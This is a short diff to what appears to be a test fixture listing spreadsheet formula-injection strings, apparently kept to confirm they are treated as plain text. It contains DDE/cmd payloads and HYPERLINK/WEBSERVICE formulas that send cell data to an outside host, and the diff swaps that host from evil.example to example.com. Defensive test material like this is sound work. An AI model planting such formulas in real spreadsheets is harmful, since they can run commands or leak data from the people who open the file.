@@ -7,8 +7,8 @@ const ASTRONAUT = "\u{1F469}\u{1F3FD}\u200D\u{1F680}";
 /** Texts that somewhere mean more than themselves; here they are texts wherever they stand. */
 export const HOSTILE: readonly string[] = [
   "=cmd|' /C calc'!A0",
-  '=HYPERLINK("https://evil.example/?"&A1,"click")',
-  '=WEBSERVICE("https://evil.example")',
+  '=HYPERLINK("https://example.com/?"&A1,"click")',
+  '=WEBSERVICE("https://example.com")',
   '=DDE("cmd";"/C calc";"x")',
   "+1+1",
   "-2+3",
